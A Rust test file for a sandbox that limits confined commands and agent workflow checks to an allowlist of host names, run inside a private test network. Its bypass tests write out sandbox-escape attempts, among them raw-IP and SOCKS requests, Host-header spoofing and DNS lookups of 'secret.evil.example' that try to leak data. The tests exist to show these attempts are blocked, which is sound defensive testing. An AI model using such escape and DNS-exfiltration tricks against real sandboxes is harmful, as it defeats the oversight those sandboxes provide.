//! What a sandbox with a list of names reaches, tried by real clients and by attacks. Everything
//! happens in a network of its own with a few servers, a table of hosts and a server for names.

use std::process::Command;

use serde_json::Value;

use super::place::Place;
use super::{has, run};
use crate::flat;
use crate::rounds::sampled;
use crate::workspace::{Run, program};

/// Servers of the network: files over HTTP on 192.0.2.1 and on 127.0.0.1, one at a port of its own,
/// and a server for names that writes every question down.
const SERVERS: &str = r#"
import http.server, os, socket, sys, threading
os.chdir(sys.argv[1])
class Files(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *what):
        pass
    def end_headers(self):
        self.send_header('X-Host', self.headers.get('Host', ''))
        super().end_headers()
def serve(host, port):
    server = http.server.ThreadingHTTPServer((host, port), Files)
    threading.Thread(target=server.serve_forever, daemon=True).start()
for place in sys.argv[2:]:
    host, port = place.rsplit(':', 1)
    serve(host, int(port))
names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
names.bind(('192.0.2.1', 53))
open('ready', 'w').close()
while True:
    question, client = names.recvfrom(4096)
    with open('questions', 'ab') as file:
        file.write(question + b'\n')
    names.sendto(question[:2] + b'\x81\x83' + question[4:12] + question[12:], client)
"#;

/// Makes the network and runs a line in it. `onloop_with LIST LINE` runs a confined line.
const WORLD: &str = r#"
set -e
ip link set lo up
ip addr add 192.0.2.1/32 dev lo
world=$1; line=$2
printf '127.0.0.1 localhost here.example\n192.0.2.1 a.example b.example evil.example\n' > "$world/hosts"
printf 'nameserver 192.0.2.1\noptions timeout:1 attempts:1\n' > "$world/resolv.conf"
mount --bind "$world/hosts" /etc/hosts
mount --bind "$world/resolv.conf" "$(readlink -f /etc/resolv.conf)"
rm -f "$world/files/ready"
python3 "$world/servers.py" "$world/files" 192.0.2.1:8000 127.0.0.1:8001 & servers=$!
python3 "$world/onloop.py" "$world/files" 127.0.0.1:8002 2>/dev/null & own=$!
trap 'kill $servers $own 2>/dev/null' EXIT
for _ in $(seq 100); do test -e "$world/files/ready" && break; sleep 0.05; done
onloop_with() { "$ONLOOP" confine --network "$1" -- bash -c "$2"; }
set +e
eval "$line"
"#;

/// A place with the servers of the network.
fn world() -> Place {
    with_servers(Place::new())
}

fn with_servers(place: Place) -> Place {
    for program in ["unshare", "ip", "python3", "curl"] {
        assert!(has(program), "`{program}` is not installed");
    }
    place.write("world/servers.py", SERVERS);
    // The same under the name of a program of ours, without the server for names.
    let own = SERVERS.split("names = socket").next().unwrap();
    place.write("world/onloop.py", &format!("{own}\nthreading.Event().wait()\n"));
    place.write("world/files/hello", "hello\n");
    place
}

fn in_world(place: &Place, folder: &str, line: &str) -> Run {
    let mut command: Command = place.command("unshare", folder);
    command.args(["--user", "--map-root-user", "--net", "--mount", "bash", "-c", WORLD, "world"]);
    command.arg(place.path("world")).arg(line).env("ONLOOP", program());
    command.output().unwrap().into()
}

/// What each of the lines says, one after the other in one network.
fn each_in_world(place: &Place, folder: &str, lines: &[String]) -> Vec<Run> {
    let numbered = || (0..lines.len()).map(|number| format!("world/said-{number}"));
    let line: String = lines
        .iter()
        .zip(numbered())
        .map(|(line, said)| {
            let said = place.path(&said).display().to_string();
            format!("( {line} ) >'{said}.out' 2>'{said}.err'; echo $? >'{said}.exit'\n")
        })
        .collect();
    in_world(place, folder, &line).expect_exit(0);
    numbered()
        .map(|said| Run {
            exit: Some(place.read(&format!("{said}.exit")).trim().parse().expect("it ran")),
            stdout: place.read(&format!("{said}.out")),
            stderr: place.read(&format!("{said}.err")),
        })
        .collect()
}

#[test]
fn clients_reach_the_names_of_the_list_and_no_others() {
    let place = world();
    place.git("home", &["clone", "--quiet", "--bare", "../repo", "../world/files/repo.git"]);
    place.git("world/files/repo.git", &["update-server-info"]);
    let clients = [
        ("curl", "curl -sSf http://NAME:8000/hello"),
        ("curl", "curl -sSf --proxytunnel http://NAME:8000/hello"),
        ("curl", "curl -sSf --socks5-hostname 127.0.0.1:3128 http://NAME:8000/hello"),
        ("wget", "wget -qO- http://NAME:8000/hello"),
        (
            "python3",
            "python3 -c 'import urllib.request as r; \
             print(r.urlopen(\"http://NAME:8000/hello\").read().decode(), end=\"\")'",
        ),
        ("git", "git ls-remote -q http://NAME:8000/repo.git main | grep -q main && echo hello"),
    ];
    let clients: Vec<_> = clients.into_iter().filter(|(client, _)| has(client)).collect();
    let lines = clients.iter().flat_map(|(_, line)| {
        ["a.example", "evil.example"].map(|name| {
            let line = shell_quoted(&line.replace("NAME", name));
            format!("onloop_with 'a.example,*.b.example' {line}")
        })
    });
    let runs = each_in_world(&place, "wt", &lines.collect::<Vec<_>>());
    assert_eq!(runs.len(), 2 * clients.len());
    for ((client, _), runs) in clients.iter().zip(runs.chunks(2)) {
        let [reached, refused] = runs else { panic!("{client}") };
        assert_eq!(
            (reached.exit, reached.stdout.as_str()),
            (Some(0), "hello\n"),
            "{client}: {reached:?}"
        );
        assert_eq!(reached.stderr, "", "{client}");
        assert_ne!(refused.exit, Some(0), "{client}: {refused:?}");
        let note = "note: refused: evil.example";
        assert!(refused.stderr.contains(note), "{client}: {refused:?}");
        assert!(
            flat(&refused.stderr).contains("; allow it with `network: [evil.example]`"),
            "{client}: {refused:?}"
        );
    }
}

#[test]
fn a_request_cannot_be_made_for_another_host() {
    let place = world();
    let line =
        "onloop_with a.example 'curl -sSi -H \"Host: evil.example\" http://a.example:8000/hello'";
    let run = in_world(&place, "wt", line);
    assert!(run.stdout.contains("X-Host: a.example:8000"), "{run:?}");
    // The second request of a connection is not sent to the server of the first.
    let line = "onloop_with a.example 'curl -sS http://a.example:8000/hello http://evil.example:8000/hello'";
    let run = in_world(&place, "wt", line);
    assert!(run.stdout.starts_with("hello\nonloop: refused: evil.example; allow"), "{run:?}");
}

#[test]
fn nothing_goes_past_the_proxy() {
    let place = world();
    let connect = "import socket; socket.create_connection((\"HOST\", PORT), 2)";
    let attacks = [
        // Addresses instead of names, with and without the proxy.
        "curl -sf --noproxy \"*\" http://192.0.2.1:8000/hello",
        "curl -sf http://192.0.2.1:8000/hello",
        "curl -sf http://127.1:8001/hello --noproxy \"\"",
        "curl -sf --noproxy \"\" http://localhost:8001/hello",
        "curl -sf --socks5 127.0.0.1:3128 http://192.0.2.1:8000/hello",
        // A listed name that leads to this machine.
        "curl -sf http://here.example:8001/hello",
        // Other ways to ask for a name.
        "getent hosts secret.evil.example",
        "curl -sf http://secret.evil.example/",
        "curl -sf --socks5-hostname 127.0.0.1:3128 http://secret.evil.example/",
        "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
         s.settimeout(1); s.sendto(b\"secret.evil\", (\"192.0.2.1\", 53)); s.recv(9)'",
        // No address of the machine, and no way to give oneself one.
        "ip addr add 192.0.2.9/32 dev lo",
        "ip link add x type dummy",
    ];
    let direct = connect.replace("HOST", "192.0.2.1").replace("PORT", "8000");
    let direct = format!("python3 -c '{direct}'");
    let attacks: Vec<&str> = attacks.into_iter().chain([direct.as_str()]).collect();
    let confined =
        |attack: &&str| format!("onloop_with a.example,here.example {}", shell_quoted(attack));
    let lines: Vec<String> = attacks.iter().map(confined).collect();
    let runs = each_in_world(&place, "wt", &lines);
    assert_eq!(runs.len(), attacks.len());
    for (attack, run) in attacks.iter().zip(runs) {
        assert!(!matches!(run.exit, Some(0)), "{attack}: {run:?}");
        assert!(!run.stdout.contains("hello"), "{attack}: {run:?}");
    }
    let questions = place.read("world/files/questions");
    assert!(!questions.contains("secret"), "a question left the sandbox: {questions:?}");
    // The server for names does hear of a listed one.
    in_world(&place, "wt", "onloop_with '*.c.example' 'curl -s http://x.c.example/'");
    assert!(
        place.read("world/files/questions").contains("\u{1}x\u{1}c"),
        "it never heard anything"
    );
}

#[test]
fn ports_of_this_machine_are_there_when_they_are_asked_for() {
    let place = world();
    let fetch = |port: u16| {
        format!(
            "python3 -c \"import urllib.request as r; print(r.urlopen('http://127.0.0.1:{port}/hello').read())\""
        )
    };
    let cases = [
        ("@localhost", 8001, true),
        ("localhost:8001", 8001, true),
        ("localhost:8003", 8001, false),
        ("a.example", 8001, false),
        // It belongs to a program of ours.
        ("@localhost", 8002, false),
        ("localhost:8002", 8002, false),
    ];
    let line = |(list, port, _): &(&str, u16, bool)| {
        format!("onloop_with {list} {}", shell_quoted(&fetch(*port)))
    };
    let lines: Vec<String> = cases.iter().map(line).collect();
    let runs = each_in_world(&place, "wt", &lines);
    assert_eq!(runs.len(), cases.len());
    for ((list, port, is_reached), run) in cases.into_iter().zip(runs) {
        assert_eq!(run.exit == Some(0), is_reached, "{list} {port}: {run:?}");
        if port == 8002 {
            let why = "note: refused: localhost:8002; localhost:8002 belongs to onloop";
            assert!(flat(&run.stderr).contains(why), "{run:?}");
        }
    }
    let line = "onloop_with @localhost,here.example 'curl -sSf http://here.example:8001/hello'";
    assert_eq!(in_world(&place, "wt", line).stdout, "hello\n", "the list has this machine, too");
}

fn shell_quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', "'\\''"))
}

#[test]
fn two_sandboxes_at_once_have_a_list_each() {
    let place = world();
    let both = "for _ in $(seq 20); do curl -sS http://a.example:8000/hello http://b.example:8000/hello; done";
    let line = format!(
        "onloop_with a.example '{both}' > ../one 2>&1 & onloop_with b.example '{both}' > ../two 2>&1; wait $!"
    );
    in_world(&place, "wt", &line);
    for (file, refused) in [("one", "b.example"), ("two", "a.example")] {
        let said = place.read(file);
        assert_eq!(said.matches("hello\n").count(), 20, "{file}: {said}");
        assert!(
            said.contains(&format!("note: refused: {refused} (20 times); allow")),
            "{file}: {said}"
        );
    }
}

#[test]
fn large_and_slow_answers_arrive_whole() {
    let place = world();
    let line = "head -c 20000000 /dev/urandom > ../world/files/large; \
        sum=$(sha256sum < ../world/files/large); \
        got=$(onloop_with a.example 'curl -sS http://a.example:8000/large' | sha256sum); \
        test \"$sum\" = \"$got\" && echo same; \
        head -c 1000000 ../world/files/large > ../world/files/part; \
        onloop_with a.example 'for i in $(seq 40); do curl -sS http://a.example:8000/part -o /dev/null & done; \
        wait; curl -sS http://a.example:8000/hello'";
    let run = in_world(&place, "wt", line);
    assert_eq!(run.stdout, "same\nhello\n", "{run:?}");
}

#[test]
fn a_check_that_was_refused_a_name_says_which() {
    let verify = "\n  type: shell\n  command: curl -sSf http://evil.example:8000/hello\n  \
                  network: [a.example]";
    let script = "curl -s http://b.example:8000/hello\nexit 1";
    let place = with_servers(run::place("", verify, script));
    let start = "\"$ONLOOP\" run hotl-workflow-try.md --agent script";
    let failed = in_world(&place, "repo", start);
    assert_eq!(failed.exit, Some(1), "{failed:?}");
    let said = flat(&failed.stderr);
    let agent = "note: refused: b.example; allow it with `network: [b.example]`";
    assert!(said.contains(agent), "{said}");
    assert!(said.contains("exit code 1 (refused: b.example; allow it with `network:"), "{said}");
    // Without a failing script the check decides.
    let file = place.read("repo/hotl-workflow-try.md").replace("exit 1", "true");
    place.write("repo/hotl-workflow-try.md", &file);
    let failed = in_world(&place, "repo", &format!("{start} --fresh --json"));
    let summary: Value =
        serde_json::from_str(&failed.stdout).unwrap_or_else(|_| panic!("{failed:?}"));
    let said = summary.to_string();
    let check = "(refused: evil.example; allow it with `network: [evil.example]`)";
    assert!(said.contains(check), "{said}\n{}", failed.stderr);
}

#[test]
fn a_step_and_the_developer_say_what_holds_where_the_check_does_not() {
    let reach = |name: &str| format!("curl -sf http://{name}:8000/hello");
    let cases = [
        ("network: [a.example]\n", "{}", "a.example", "b.example"),
        ("", "run: {network: [b.example]}", "b.example", "a.example"),
        ("network: [a.example]\n", "run: {network: [b.example]}", "a.example", "b.example"),
    ];
    // The last one has both, which the first two have each by itself.
    for (more, own, reached, refused) in sampled(3, cases.into_iter().rev()) {
        let script = format!("{}; ! {}", reach(reached), reach(refused));
        let verify = format!(" {} && ! {}", reach(reached), reach(refused));
        let place = with_servers(run::place(more, &verify, &script));
        place.write("home/.agentize.local.yaml", &format!("{own}\n"));
        let done = in_world(&place, "repo", "\"$ONLOOP\" run hotl-workflow-try.md --agent script");
        assert_eq!(done.exit, Some(0), "{more}{own}: {done:?}");
    }
}

#[test]
#[ignore = "only with --all"]
fn names_are_refused_where_they_cannot_be_enforced() {
    let place = run::place("network: [a.example]\n", " 'true'", "true");
    let programs = place.path_without("bwrap");
    let start = |place: &Place| -> Run {
        let mut command = place.command(program(), "repo");
        command.args(["run", "hotl-workflow-try.md", "--agent", "script"]).env("PATH", &programs);
        command.output().unwrap().into()
    };
    let refused = start(&place);
    if refused.stderr.contains("Sandbox: none") {
        // There is no Landlock either, so that nothing is confined.
        return;
    }
    assert_eq!(refused.exit, Some(4), "{refused:?}");
    let why = "error: the workflow file has names in `network`, and this machine has no bubblewrap";
    assert!(flat(&refused.stderr).contains(why), "{refused:?}");
    place.write("home/.agentize.local.yaml", "run: {network: [a.example]}\n");
    let file = place.read("repo/hotl-workflow-try.md").replace("network: [a.example]\n", "");
    place.write("repo/hotl-workflow-try.md", &file);
    let refused = start(&place);
    assert_eq!(refused.exit, Some(4), "{refused:?}");
    assert!(flat(&refused.stderr).contains("error: `run.network` has names"), "{refused:?}");
    place.write("home/.agentize.local.yaml", "{}\n");
    let all = start(&place).expect_exit(0);
    assert!(
        all.stderr.contains("Sandbox: landlock; no host is refused, which needs bubblewrap"),
        "{all:?}"
    );
}
